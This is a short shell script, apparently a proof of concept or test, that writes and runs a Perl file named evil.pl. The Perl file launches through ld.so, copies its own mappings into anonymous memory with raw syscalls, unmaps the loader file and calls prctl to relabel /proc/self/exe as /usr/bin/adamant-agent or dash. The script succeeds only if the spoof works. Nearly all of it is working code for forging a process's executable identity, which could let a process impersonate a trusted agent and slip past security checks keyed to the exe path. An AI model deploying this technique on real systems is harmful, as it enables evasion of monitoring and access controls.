# If ld.so starts perl, ld.so is perl's program file. perl copies the data of ld.so to memory and
# unmaps the file. Then the kernel lets it name any program of the image as its program file.
cat >evil.pl <<'END'
my (@gone, @kept); open my $maps, "<", "/proc/self/maps" or exit 1;
for (<$maps>) { next unless m{^(\w+)-(\w+) (\S+) .*/ld-linux}; my $area = [hex $1, hex($2) - hex $1]; $3 =~ /x/ ? push @gone, $area : push @kept, $area }
my $program = -e "/usr/bin/adamant-agent" ? "/usr/bin/adamant-agent" : "/usr/bin/dash"; open my $agent, "<", $program or exit 77;
open my $memory, "<", "/proc/self/mem" or exit 77; my ($fd, $mem, $path, $told) = (fileno $agent, fileno $memory, "/proc/self/exe\0", "\0" x 256);
for (@kept) { my $copy = syscall(9, 0, $$_[1], 3, 34, -1, 0); syscall(17, $mem, $copy, $$_[1], $$_[0]); syscall(25, $copy, $$_[1], $$_[1], 3, $$_[0]) }
syscall(11, $$_[0], $$_[1]) for @gone;
my $result = syscall(157, 35, 13, $fd, 0, 0); syscall(89, $path, $told, 255); syscall(1, 1, $told, 255);
syscall(231, $result == 0 ? 0 : 1);
END
said=$(LD_BIND_NOW=1 /lib64/ld-linux-x86-64.so.2 /usr/bin/perl evil.pl | tr -d '\000'); echo "it says that it is $said"
case $said in */adamant-agent | */dash) ;; *) false ;; esac
